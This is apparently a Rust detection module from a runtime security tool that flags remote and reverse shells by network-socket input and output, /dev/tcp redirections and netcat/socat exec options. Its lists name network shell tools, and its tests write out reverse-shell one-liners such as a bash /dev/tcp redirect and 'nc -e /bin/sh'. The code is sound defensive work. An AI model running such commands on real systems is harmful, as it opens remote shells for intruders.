//! A shell that someone elsewhere types into.

use nv_model::behaviour::{Behaviour, Stdio};

use super::tools::Names;
use super::{Exec, Finding};

const SHELLS: &[&str] = &[
    "sh",
    "ash",
    "hush",
    "bash",
    "rbash",
    "dash",
    "zsh",
    "ksh",
    "mksh",
    "csh",
    "tcsh",
    "fish",
    "busybox-sh",
];
/// Programs that hand their connection to another one when they are told to.
const HANDS_ON: &[&str] =
    &["nc", "ncat", "netcat", "nc.traditional", "cryptcat", "pwncat", "socat", "socat1", "telnetd"];

fn is_network(stdio: Stdio) -> bool {
    stdio == Stdio::InternetSocket
}

/// The finding of a shell on a connection: by its own input and output, by its parent's, by what it or its parent is
/// told to do.
pub(super) fn remote(exec: &Exec<'_>, names: &Names<'_>) -> Option<Finding> {
    let [input, output] = exec.stdio;
    let shell = names.one_of(SHELLS);
    let both = is_network(input) && is_network(output);
    let message = match shell {
        Some(name) if is_network(input) || is_network(output) => {
            format!("{name} takes its input from a network connection or answers to one")
        }
        // Whatever it is called: a program that came after the image, with a connection in place of a terminal.
        None if both && exec.container && (exec.drifted || exec.fileless) => {
            format!("{} is not from the image and has a network connection as input and output", exec.path)
        }
        Some(name) if exec.parent_stdio.into_iter().all(is_network) => {
            format!("{name} was started by a program whose input and output are a network connection")
        }
        Some(name) if exec.command.contains("/dev/tcp/") || exec.command.contains("/dev/udp/") => {
            format!("{name} is told to open a network connection as a file")
        }
        // `mkfifo p; cat p | sh -i | nc … > p`: someone types, but there is no terminal.
        Some(name)
            if exec.container
                && !exec.entered
                && input == Stdio::Pipe
                && output == Stdio::Pipe
                && is_interactive(exec.command) =>
        {
            format!("{name} is interactive, but between two pipes")
        }
        Some(_) => return None,
        None => {
            let name = names.one_of(HANDS_ON).filter(|_| hands_on(exec.command))?;
            format!("{name} is told to run a program on its connection")
        }
    };
    Some(Finding::new(Behaviour::RemoteShell, message))
}

fn is_interactive(command: &str) -> bool {
    let options = command.split(' ').skip(1).take_while(|word| word.starts_with('-'));
    options.into_iter().any(|word| word == "--interactive" || (!word.starts_with("--") && word.contains('i')))
}

/// `nc -e`, `ncat --sh-exec`, `socat … EXEC:…`.
fn hands_on(command: &str) -> bool {
    command.split(' ').skip(1).any(|word| {
        matches!(word, "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec")
            || ["exec:", "system:", "shell:"].iter().any(|how| {
                word.get(..how.len()).is_some_and(|start| start.eq_ignore_ascii_case(how))
            })
            // Options that are run together: `-le /bin/sh`.
            || (word.starts_with('-') && !word.starts_with("--") && word.ends_with('e') && word.len() <= 6)
    })
}

#[cfg(test)]
mod tests {
    use super::super::testing::{exec, found};
    use super::*;

    const NETWORK: [Stdio; 2] = [Stdio::InternetSocket; 2];

    fn shell(command: &'static str) -> Exec<'static> {
        Exec { path: "/bin/sh", called: "/bin/sh", command, ..exec() }
    }

    #[test]
    fn a_shell_on_a_connection_is_told_whoever_put_it_there() {
        for exec in [
            Exec { stdio: NETWORK, ..shell("sh -i") },
            Exec { stdio: [Stdio::InternetSocket, Stdio::Terminal], ..shell("sh") },
            Exec { stdio: NETWORK, path: "/bin/busybox", called: "/bin/busybox", ..shell("busybox sh") },
            Exec { stdio: NETWORK, container: false, ..shell("sh") },
            Exec { parent_stdio: NETWORK, stdio: [Stdio::Terminal; 2], ..shell("sh") },
            Exec { stdio: NETWORK, path: "/tmp/x", called: "/tmp/x", drifted: true, ..shell("x") },
            shell("bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            shell("sh -i"),
        ] {
            assert_eq!(found(&exec)[0], Behaviour::RemoteShell, "{exec:?}");
        }
    }

    #[test]
    fn a_shell_that_someone_here_uses_is_not() {
        for exec in [
            shell("sh -c run"),
            Exec { stdio: [Stdio::Terminal; 2], ..shell("sh -i") },
            Exec { entered: true, ..shell("sh -i") },
            Exec { container: false, ..shell("sh -i") },
            Exec { stdio: [Stdio::OtherSocket; 2], ..shell("sh -c check") },
            Exec { stdio: NETWORK, path: "/usr/sbin/ftpd", called: "/usr/sbin/ftpd", ..shell("ftpd") },
            Exec { parent_stdio: [Stdio::InternetSocket, Stdio::File], ..shell("sh") },
        ] {
            assert_eq!(found(&exec), [], "{exec:?}");
        }
    }

    #[test]
    fn a_tool_that_hands_its_connection_on_is_told_with_the_tool() {
        for command in [
            "nc -e /bin/sh host 4444",
            "nc -lke /bin/sh",
            "ncat --sh-exec sh host 1",
            "socat tcp:host:1 EXEC:sh,pty",
        ] {
            let name = command.split(' ').next().unwrap();
            let exec = Exec { path: name, called: name, ..shell(command) };
            assert_eq!(found(&exec), [Behaviour::RemoteShell, Behaviour::NetworkTool], "{command}");
        }
        let plain = Exec { path: "/bin/nc", called: "/bin/nc", ..shell("nc -z host 80") };
        assert_eq!(found(&plain), [Behaviour::NetworkTool]);
    }
}
